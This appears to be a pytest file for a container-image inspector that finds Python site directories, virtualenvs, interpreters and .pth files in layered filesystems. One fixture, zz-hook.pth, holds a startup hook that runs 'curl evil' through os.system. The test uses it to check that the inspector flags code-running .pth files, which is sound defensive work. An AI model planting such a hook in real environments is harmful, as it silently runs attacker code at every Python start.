"""inspect finds every site directory: a venv anywhere, PYTHONPATH folders, `pip install --target` folders,
and the .pth files of each site (`runs_code`: one with an import line is code run at every start)."""

from __future__ import annotations

from mlenv.observe import observe_tree
from mlenv.observe.facts import probe_interest
from mlenv.observe.fs.rootfs import LayeredFS, index_layer

from .layers import dist_info, image_config, layer_tar

BASE = [
    ("file", "usr/bin/python3.11", b"\x7fELF\x00pymalloc\x003.11.2\x00strict\x00", 0o755),
    ("symlink", "usr/bin/python3", "python3.11"),
]
SITE = "usr/lib/python3.11/site-packages"


def build(*layers: list[tuple]) -> LayeredFS:
    return LayeredFS([index_layer([layer_tar(entries)], interest=probe_interest) for entries in layers])


def test_target_and_pythonpath_folders_are_sites() -> None:
    extra = [
        *dist_info("srv/libs", "requests", "2.31.0", {"requests/__init__.py": b"x\n"}),
        *dist_info("opt/plugins", "plugin", "1.0", {"plugin/__init__.py": b"x\n"}),
        ("dir", "opt/empty-on-path"),
    ]
    fs = build(BASE, extra)
    env = {"PATH": "/usr/bin", "PYTHONPATH": "/opt/plugins:/opt/empty-on-path:relative"}
    facts = observe_tree(fs, image_config([], env=env))
    found = {(d.name, d.version, d.site) for d in facts.python_dists}
    assert ("requests", "2.31.0", "/srv/libs") in found  # a --target folder, on no path at all
    assert ("plugin", "1.0", "/opt/plugins") in found


def test_a_venv_deep_in_the_tree_is_found() -> None:
    deep = "srv/teams/fraud/app/.venv"
    venv = [
        ("file", f"{deep}/pyvenv.cfg", b"home = /usr/bin\nversion = 3.11.2\n"),
        ("symlink", f"{deep}/bin/python", "/usr/bin/python3.11"),
        *dist_info(f"{deep}/lib/python3.11/site-packages", "six", "1.16.0", {"six.py": b"x\n"}),
    ]
    facts = observe_tree(build(BASE, venv))
    assert ("six", f"/{deep}/lib/python3.11/site-packages") in {(d.name, d.site) for d in facts.python_dists}
    assert (f"/{deep}/bin/python", "3.11.2") in {(i.path, i.version) for i in facts.interpreters}


def test_pth_files_are_facts_and_an_import_line_is_a_finding() -> None:
    site = [
        *dist_info(SITE, "demo", "1.0", {"demo/__init__.py": b"x\n"}),
        ("file", f"{SITE}/paths.pth", b"/opt/extra\n# a comment\n"),
        ("file", f"{SITE}/zz-hook.pth", b"import os; os.system('curl evil')\n"),
    ]
    facts = observe_tree(build(BASE, site), image_config([], env={"PATH": "/usr/bin"}))
    pth = {p.path: p.runs_code for p in facts.pth_files}
    assert pth == {f"/{SITE}/paths.pth": False, f"/{SITE}/zz-hook.pth": True}


def test_each_interpreter_names_its_own_site_directories() -> None:
    """Debian's /usr/bin/python3 reads dist-packages (/usr/local's, then /usr/lib/python3's); a /usr/local
    build (python:3.X-slim) its site-packages; a venv its own, and its base's too only with
    include-system-site-packages. A directory the image lacks is not named."""
    debian = [
        ("dir", "usr/lib/python3/dist-packages"),
        ("dir", "usr/local/lib/python3.11/dist-packages"),
        ("dir", SITE),  # present but unused by Debian's patched site.py
    ]
    slim = [
        ("file", "usr/local/bin/python3.12", b"\x7fELF\x00pymalloc\x003.12.8\x00strict\x00", 0o755),
        ("symlink", "usr/local/bin/python3", "python3.12"),
        ("dir", "usr/local/lib/python3.12/site-packages"),
    ]
    venvs = [
        ("file", "opt/venv/pyvenv.cfg", b"home = /usr/local/bin\nversion = 3.12.8\n"),
        ("symlink", "opt/venv/bin/python", "/usr/local/bin/python3.12"),
        ("dir", "opt/venv/lib/python3.12/site-packages"),
        ("symlink", "opt/venv/lib64", "lib"),
        (
            "file",
            "opt/shared/pyvenv.cfg",
            b"home = /usr/bin\ninclude-system-site-packages = true\nversion = 3.11.2\n",
        ),
        ("symlink", "opt/shared/bin/python3", "/usr/bin/python3.11"),
        ("dir", "opt/shared/lib/python3.11/site-packages"),
    ]
    facts = observe_tree(
        build(BASE, debian, slim, venvs), image_config([], env={"PATH": "/usr/local/bin:/usr/bin"})
    )
    sites = {i.path: i.sites for i in facts.interpreters}
    debian_sites = ("/usr/local/lib/python3.11/dist-packages", "/usr/lib/python3/dist-packages")
    assert sites["/usr/bin/python3.11"] == sites["/usr/bin/python3"] == debian_sites
    assert (
        sites["/usr/local/bin/python3.12"]
        == sites["/usr/local/bin/python3"]
        == ("/usr/local/lib/python3.12/site-packages",)
    )
    assert sites["/opt/venv/bin/python"] == ("/opt/venv/lib/python3.12/site-packages",)  # lib64 -> lib: once
    assert sites["/opt/shared/bin/python3"] == ("/opt/shared/lib/python3.11/site-packages", *debian_sites)
